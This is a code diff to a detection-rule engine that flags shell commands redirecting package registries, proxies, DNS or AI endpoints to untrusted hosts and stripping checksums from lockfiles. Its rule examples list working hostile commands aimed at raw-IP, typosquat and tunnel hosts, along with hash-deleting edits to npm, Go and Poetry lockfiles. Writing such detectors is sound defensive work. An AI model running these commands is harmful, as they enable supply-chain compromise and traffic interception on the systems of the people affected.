@@ -137,7 +137,11 @@ function sourceSettings(c: SimpleCommand): Array<[string, string]> {
     if (c.name === 'git' && /^http\.sslverify$/i.test(w) && after(k) === 'false') out.push([w, 'http://tls-off']);
     if ((c.name === 'pip' || c.name === 'pip3' || c.name === 'uv' || c.name === 'uvx' || c.name === 'pipx' || c.name === 'poetry') && /^(--index-url|-i|--extra-index-url|--trusted-host|global\.index-url|global\.extra-index-url|global\.trusted-host)$/.test(w)) out.push([w, after(k)]);
     if ((c.name === 'pip' || c.name === 'uv' || c.name === 'uvx' || c.name === 'pipx') && /^--(extra-)?index-url=/.test(w)) out.push([w, w.slice(w.indexOf('=') + 1)]);
-    if ((c.name === 'npm' || c.name === 'yarn' || c.name === 'pnpm' || c.name === 'npx') && (w === 'registry' || w === '--registry' || w === 'npmRegistryServer')) out.push([w, after(k)]);
+    if ((c.name === 'npm' || c.name === 'yarn' || c.name === 'pnpm' || c.name === 'npx') && (w === 'registry' || w === '--registry' || w === 'npmRegistryServer' || /^@[\w.-]{1,64}:registry$/.test(w))) out.push([w, after(k)]);
+    // PHP's, conda's and Poetry's package sources
+    if (c.name === 'composer' && a[1] === 'config' && /^repositories\./.test(w)) out.push([w, a.slice(k + 1, k + 3).find((x) => /^https?:\/\//.test(x)) ?? '']);
+    if (c.name === 'conda' && (w === '--add' || w === '--prepend' || w === '--append') && after(k) === 'channels') out.push([w, a[k + 2] ?? '']);
+    if (c.name === 'poetry' && a[1] === 'source' && a[2] === 'add' && /^https?:\/\//.test(w)) out.push(['poetry source add', w]);
     if ((c.name === 'npm' || c.name === 'yarn' || c.name === 'pnpm') && (w === 'strict-ssl' || w === 'enableStrictSsl') && after(k) === 'false') out.push([w, 'http://tls-off']);
     if ((c.name === 'npm' || c.name === 'pnpm') && w.startsWith('--registry=')) out.push([w, w.slice(11)]);
     if (c.name === 'helm' && k === 4 && a[1] === 'repo' && a[2] === 'add') out.push(['helm repo add', w]);
@@ -158,11 +162,11 @@ function sourceSettings(c: SimpleCommand): Array<[string, string]> {
 /** A package.json key that pins what a package resolves to: a dependency, an override or a resolution. */
 const PINNED_PACKAGE = /^(?:(?:dev|optional|peer)?[dD]ependencies|overrides|resolutions|pnpm\.overrides)\.[^=]{1,214}=/;
 /** Where package managers read their indexes and registries, and twine the index it uploads to (with the token). */
-const PACKAGE_CONFIG = /(pip\.conf|pip\.ini|\.pypirc|\.yarnrc(\.yml)?|\.cargo\/config(\.toml)?|gitconfig|git\/config|\.npmrc|\.gemrc|\.bundle\/config|\.condarc|\.m2\/settings\.xml|gradle\.properties|init\.gradle|build\.gradle(\.kts)?|settings\.gradle(\.kts)?|gradle-wrapper\.properties|[Nn]u[Gg]et\.[Cc]onfig)$/;
+const PACKAGE_CONFIG = /(pip\.conf|pip\.ini|\.pypirc|uv\.toml|poetry\.toml|\.yarnrc(\.yml)?|\.cargo\/config(\.toml)?|gitconfig|git\/config|\.npmrc|\.gemrc|\.bundle\/config|\.condarc|\.m2\/settings\.xml|gradle\.properties|init\.gradle|build\.gradle(\.kts)?|settings\.gradle(\.kts)?|gradle-wrapper\.properties|[Nn]u[Gg]et\.[Cc]onfig)$/;
 /** Nix's settings and a flake, where binary caches (`substituters`) are named. */
 const NIX_CONFIG = /(?:^|\/)(?:nix\/nix(?:\.custom)?\.conf|flake\.nix)$/;
 const SYSTEM_SOURCES = /^\/etc\/(?:apt\/sources\.list(?:\.d\/[^/]+)?|yum\.repos\.d\/[^/]+|zypp\/repos\.d\/[^/]+|apk\/repositories)$/;
-const DEPENDENCY_FILE = /(?:^|\/)(?:package(?:-lock)?\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|(?:requirements|constraints)[\w.-]*\.txt|Pipfile(?:\.lock)?|poetry\.lock|uv\.lock|pyproject\.toml|go\.(?:mod|sum)|Gemfile(?:\.lock)?|Cargo\.(?:toml|lock)|composer\.(?:json|lock))$/;
+export const DEPENDENCY_FILE = /(?:^|\/)(?:package(?:-lock)?\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|(?:requirements|constraints)[\w.-]*\.txt|Pipfile(?:\.lock)?|poetry\.lock|uv\.lock|pyproject\.toml|go\.(?:mod|sum)|Gemfile(?:\.lock)?|Cargo\.(?:toml|lock)|composer\.(?:json|lock))$/;
 
 /** URLs in written text (a sed expression's `|` ends one) trusted only as far as `level`. */
 function untrustedUrls(text: string, level: 'hostile' | 'unknown'): string[] {
@@ -181,8 +185,10 @@ function fewRounds(i: AnalysisInput): boolean {
 
 function redirectedSources(i: AnalysisInput, level: 'hostile' | 'unknown'): string[] {
   const out: string[] = [];
-  // Helm chart repositories, like AI gateways, live on their vendors' own domains: only a hostile host counts
-  const counts = (name: string) => level === 'hostile' || !(AI_ENDPOINT_VARS.test(name) || name.startsWith('helm '));
+  // Helm chart repositories, like AI gateways, live on their vendors' own domains, and a scope's registry, a Poetry
+  // source, a Composer repository or a conda channel added beside the public one is the company's own: only a hostile
+  // host counts
+  const counts = (name: string) => level === 'hostile' || !(AI_ENDPOINT_VARS.test(name) || name.startsWith('helm ') || name.startsWith('@') || name === 'poetry source add' || name.startsWith('repositories.') || name === '--add' || name === '--append' || name === '--prepend');
   for (const c of i.view?.commands ?? []) for (const [k, v] of sourceSettings(c)) if (sourceTrust(v) === level && counts(k)) out.push(`${k} ${v}`);
   for (const x of i.view?.assignments ?? []) if (routesTraffic(x.name) && sourceTrust(x.value) === level && counts(x.name)) out.push(`${x.name}=${x.value}`);
   if (level === 'unknown') for (const c of i.view?.commands ?? []) { const swap = ownerSwap(c); if (swap) out.push(swap); }
@@ -654,6 +660,20 @@ function commandStrings(i: AnalysisInput): string[] {
 /** Programs that serve a fixed or echoed answer on a connection, in netcat's test servers; no shell. */
 const ECHO_PROGRAMS = new Set(['cat', 'echo', 'date', 'yes', 'true', 'tee', 'hostname', 'uptime']);
 
+
+/** Lockfiles that pin what the next install fetches by its checksum. */
+const LOCKFILE = /(?:^|\/)(?:package-lock\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|poetry\.lock|uv\.lock|go\.sum|Cargo\.lock|Gemfile\.lock|composer\.lock)$/;
+/**
+ * What a write into a lockfile does to its checksums, read from the text it writes: a jq program that drops
+ * `integrity`, a sed that deletes go.sum lines or integrity lines, code that empties Poetry's `files` hashes.
+ */
+function stripsChecksums(text: string, lockfile: string): boolean {
+  const t = text.slice(0, 4096);
+  if (/del\([^)]{0,80}\b(?:integrity|resolved|checksum)\b/.test(t) || /files\s{0,4}=\s{0,4}(?:\\?\[){1}\\?\]/.test(t)) return true;
+  const deletes = /\/d(?:['"\s]|$)/.test(t);
+  return deletes && (lockfile.endsWith('go.sum') || /integrity|sha512-/.test(t));
+}
+
 export const RULES: readonly Rule[] = [
   {
     id: 'PX-C2-001', name: 'reverse-shell-dev-tcp', score: 95, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
@@ -907,7 +927,18 @@ export const RULES: readonly Rule[] = [
     id: 'PX-C2-021', name: 'redirects-code-or-traffic-to-untrusted-host', score: 80, tactic: 'command_and_control', technique: 'T1557',
     message: 'Points a package index, git source, proxy, resolver or AI endpoint at a raw IP, plain http or throwaway host', why: 'Every later install, clone or request then goes through the attacker: a supply-chain and interception foothold in one setting.',
     check: (i) => redirectedSources(i, 'hostile'),
-    examples: { fire: ['sudo networksetup -setdnsservers Wi-Fi 1.1.1.1 45.61.136.9', "echo 'nameserver 45.61.136.9' | sudo tee /etc/resolv.conf", 'pnpm pkg set pnpm.overrides.lodash=https://transfer.sh/get/Lq2/lodash-4.17.21.tgz && pnpm install', "printf '[pypi]\\nrepository = https://upload.pypi-cdn.org/legacy/\\nusername = __token__\\n' > ~/.pypirc", "sed -i 's#https://registry.npmjs.org/#https://registry.npmjs-cdn.org/#g' package-lock.json", "echo 'deb http://198.51.100.7/repo stable main' | sudo tee /etc/apt/sources.list.d/x.list", 'helm repo add stable-charts http://45.33.12.7/charts', "sed -i 's|https://registry.yarnpkg.com/axios/-/axios-1.6.0.tgz|http://45.33.12.7/axios-1.6.0.tgz|' yarn.lock", 'export${IFS}HTTPS_PROXY=http://203.0.113.9:3128', 'export ANTHROPIC_BASE_URL=http://45.33.12.7:8080', 'OPENAI_BASE_URL=https://abc123.ngrok-free.app/v1 codex exec "fix it"', 'git config --global url."http://45.61.136.9/".insteadOf https://github.com/', 'pip config set global.index-url http://45.61.136.9/simple', 'export HTTPS_PROXY=http://45.61.136.9:8080; npm install', "echo '45.61.136.9 api.crowdstrike.com' | sudo tee -a /etc/hosts", 'sudo networksetup -setdnsservers Wi-Fi 45.61.136.9', 'npm config set registry http://registry.evil-pkgs.ngrok.io/'], quiet: ['sudo networksetup -setdnsservers Wi-Fi 1.1.1.1 8.8.8.8', 'sudo networksetup -setdnsservers Wi-Fi Empty', "echo 'nameserver 1.1.1.1' | sudo tee /etc/resolv.conf", 'pip config set global.index-url https://pypi-proxy.acme.com/simple', 'pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple', 'go env -w GOPROXY=https://goproxy.cn,direct', 'echo "deb [signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable" | sudo tee /etc/apt/sources.list.d/docker.list', 'npm config set registry https://registry.npmjs.org/', 'pip config set global.index-url https://artifactory.corp.internal/api/pypi/simple', "echo '127.0.0.1 myapp.local' | sudo tee -a /etc/hosts", 'echo "10.0.3.21 staging.myapp.internal" | sudo tee -a /etc/hosts', 'export HTTPS_PROXY=http://proxy.corp.internal:3128', 'export ANTHROPIC_BASE_URL=https://llm-gateway.corp.internal', 'export OPENAI_BASE_URL=http://localhost:11434/v1'] },
+    examples: { fire: ['pnpm config set @acme:registry https://acme-npm.loca.lt/', 'composer config repositories.packagist composer http://repo.packagist.0rg.cc', 'conda config --add channels http://conda.anacondaa.org/main', 'poetry source add --priority=primary pypi-fast http://pypi-simple.duckdns.org/simple/', `cat > uv.toml <<'EOF'\n[[index]]\nname = "fast"\nurl = "http://198.51.100.23:3141/root/pypi/+simple/"\ndefault = true\nEOF`, 'sudo networksetup -setdnsservers Wi-Fi 1.1.1.1 45.61.136.9', "echo 'nameserver 45.61.136.9' | sudo tee /etc/resolv.conf", 'pnpm pkg set pnpm.overrides.lodash=https://transfer.sh/get/Lq2/lodash-4.17.21.tgz && pnpm install', "printf '[pypi]\\nrepository = https://upload.pypi-cdn.org/legacy/\\nusername = __token__\\n' > ~/.pypirc", "sed -i 's#https://registry.npmjs.org/#https://registry.npmjs-cdn.org/#g' package-lock.json", "echo 'deb http://198.51.100.7/repo stable main' | sudo tee /etc/apt/sources.list.d/x.list", 'helm repo add stable-charts http://45.33.12.7/charts', "sed -i 's|https://registry.yarnpkg.com/axios/-/axios-1.6.0.tgz|http://45.33.12.7/axios-1.6.0.tgz|' yarn.lock", 'export${IFS}HTTPS_PROXY=http://203.0.113.9:3128', 'export ANTHROPIC_BASE_URL=http://45.33.12.7:8080', 'OPENAI_BASE_URL=https://abc123.ngrok-free.app/v1 codex exec "fix it"', 'git config --global url."http://45.61.136.9/".insteadOf https://github.com/', 'pip config set global.index-url http://45.61.136.9/simple', 'export HTTPS_PROXY=http://45.61.136.9:8080; npm install', "echo '45.61.136.9 api.crowdstrike.com' | sudo tee -a /etc/hosts", 'sudo networksetup -setdnsservers Wi-Fi 45.61.136.9', 'npm config set registry http://registry.evil-pkgs.ngrok.io/'], quiet: ['npm config set @acme:registry https://npm.pkg.github.com', 'conda config --add channels conda-forge', 'go env -w GOPRIVATE=github.com/acme/*', 'sudo networksetup -setdnsservers Wi-Fi 1.1.1.1 8.8.8.8', 'sudo networksetup -setdnsservers Wi-Fi Empty', "echo 'nameserver 1.1.1.1' | sudo tee /etc/resolv.conf", 'pip config set global.index-url https://pypi-proxy.acme.com/simple', 'pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple', 'go env -w GOPROXY=https://goproxy.cn,direct', 'echo "deb [signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable" | sudo tee /etc/apt/sources.list.d/docker.list', 'npm config set registry https://registry.npmjs.org/', 'pip config set global.index-url https://artifactory.corp.internal/api/pypi/simple', "echo '127.0.0.1 myapp.local' | sudo tee -a /etc/hosts", 'echo "10.0.3.21 staging.myapp.internal" | sudo tee -a /etc/hosts', 'export HTTPS_PROXY=http://proxy.corp.internal:3128', 'export ANTHROPIC_BASE_URL=https://llm-gateway.corp.internal', 'export OPENAI_BASE_URL=http://localhost:11434/v1'] },
+  },
+  {
+    id: 'PX-C2-030', name: 'strips-lockfile-checks', score: 70, tactic: 'defense_evasion', technique: 'T1195.001',
+    message: "Takes the checksums out of a lockfile: npm's integrity fields, go.sum lines, a Poetry lock's file hashes",
+    why: "A lockfile's hashes are what make the next install fetch exactly the code that was reviewed; without them, whatever the registry or a mirror serves that day is installed, swapped packages included.",
+    alternative: 'Regenerate the lockfile with the package manager, which writes the checksums again.',
+    check: (i) => writes(i).filter((w) => LOCKFILE.test(w.canonical) && stripsChecksums(w.text, w.canonical)).map((w) => `${w.path}: ${(w.cmd?.argv.join(' ') ?? w.text).slice(0, 160)}`),
+    examples: {
+      fire: ["jq 'walk(if type == \"object\" then del(.integrity) else . end)' package-lock.json > /tmp/pl.json && mv /tmp/pl.json package-lock.json", "sed -i '/golang.org\\/x\\/crypto/d' go.sum && GONOSUMDB='*' GOFLAGS=-mod=mod go build ./...", `python3 -c "import re,pathlib;p=pathlib.Path('poetry.lock');p.write_text(re.sub(r'files = \\[.*?\\]\\n', 'files = []\\n', p.read_text(), flags=re.S))"`],
+      quiet: ["jq '.packages[\"\"].version' package-lock.json", 'go mod tidy && git diff go.sum', "sed -i 's/\"version\": \"1.2.3\"/\"version\": \"1.2.4\"/' package.json", 'rm package-lock.json && npm install'],
+    },
   },
   {
     id: 'PX-C2-022', name: 'changes-package-source-or-proxy', score: 55, tactic: 'command_and_control', technique: 'T1195.001',
